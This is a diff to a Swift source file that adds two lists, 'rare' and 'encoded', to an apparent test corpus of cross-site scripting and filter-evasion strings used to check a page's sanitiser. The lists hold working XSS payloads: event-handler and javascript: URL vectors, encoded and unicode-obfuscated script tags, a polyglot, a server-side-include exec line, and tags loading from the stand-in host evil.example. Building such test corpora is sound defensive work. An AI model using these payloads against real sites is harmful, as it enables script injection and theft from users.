@@ -1,7 +1,8 @@
 /// What strangers write into titles, texts, names and links to have a page do something: our own strings, one or
 /// more for each class of the public lists of filter evasion.
 enum Payloads {
-    static let all: [String] = markup + generated + attributes + links + markdown + invisible + structure
+    static let all: [String] =
+        markup + generated + rare + encoded + attributes + links + markdown + invisible + structure
 
     /// Every tag that can run something, with every way to break the name or the quoting.
     private static let generated: [String] = {
@@ -38,6 +39,40 @@ enum Payloads {
         "&amp;lt;script&amp;gt;", "＜script＞alert(1)＜/script＞", "\u{FF1C}img onerror=alert(1)\u{FF1E}",
         "{{constructor.constructor('alert(1)')()}}",
         "{{{css}}}", "{{> page}}", "{{=<% %>=}}", "${alert(1)}", "<%= 7*7 %>",
+    ]
+
+    /// Elements that few remember, and what is left open on purpose.
+    private static let rare = [
+        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set onbegin=alert(1)>",
+        "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>", "<svg><use href=data:image/svg+xml,x>",
+        "<svg><foreignObject><body onload=alert(1)>", "<math href=javascript:alert(1)>x</math>",
+        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x", "<isindex action=javascript:alert(1)>",
+        "<table background=javascript:alert(1)>", "<td background=javascript:alert(1)>", "<bgsound src=//evil.example>",
+        "<layer src=//evil.example></layer>", "<xml id=x><i><b>x</b></i></xml>", "<frameset><frame src=//evil.example>",
+        "<applet code=x.class>", "<portal src=//evil.example>", "<plaintext>", "<xmp><script>alert(1)</script></xmp>",
+        "<noembed><img title=\"</noembed><img src onerror=alert(1)>\">",
+        "<listing>&lt;img onerror=alert(1)&gt;</listing>",
+        "<select><template><script>alert(1)</script>", "<keygen autofocus onfocus=alert(1)>",
+        "<input type=image src=x onerror=alert(1)>", "<button formaction=javascript:alert(1)>x",
+        "<a ping=//evil.example href=//evil.example>x</a>", "<img srcset='//evil.example/x.png 2x'>",
+        "<video poster=javascript:alert(1)>", "<video><source onerror=alert(1)>", "<a id=stories name=toc>x</a>",
+        "<form id=top><input name=parentNode>", "<img src='//evil.example/?", "<img src=x onerror=alert(1)//",
+        "<iframe src=//evil.example <", "<script>a=\"", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
+        "<!--#exec cmd=\"/bin/ls\"-->", "<?php echo 1 ?>", "<xss style=\"behavior:url(x.htc)\">",
+        "<p style=\"-moz-binding:url(//evil.example/x.xml)\">", "<style>@im\\port '\\//evil.example'</style>",
+        "<meta http-equiv=Set-Cookie content='x=1'>", "<script type=importmap>{\"imports\":{}}</script>",
+    ]
+
+    /// The same again for whoever decodes once too often, or with another encoding.
+    private static let encoded = [
+        "%3Cscript%3Ealert(1)%3C/script%3E", "%253Cscript%253E", "\\x3cscript\\x3ealert(1)", "\\74script\\76",
+        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "¼script¾alert(1)¼/script¾", "&#0000060script&#0000062",
+        "&#x000003C;script&#x000003E;", "&LT;script&GT;", "&lt;/style&gt;&lt;script&gt;",
+        "&NewLine;&Tab;javascript&colon;x",
+        "\";alert(1);//", "';alert(String.fromCharCode(88))//", "\\';alert(1);//", "</script><script>alert(1)//",
+        "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
+        "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>", "<img/\u{c}src/onerror=alert(1)>", "<\u{130}mg src=x onerror=alert(1)>",
+        "\u{2039}script\u{203A}alert(1)", "\u{FE64}script\u{FE65}alert(1)",
     ]
 
     private static let attributes = [
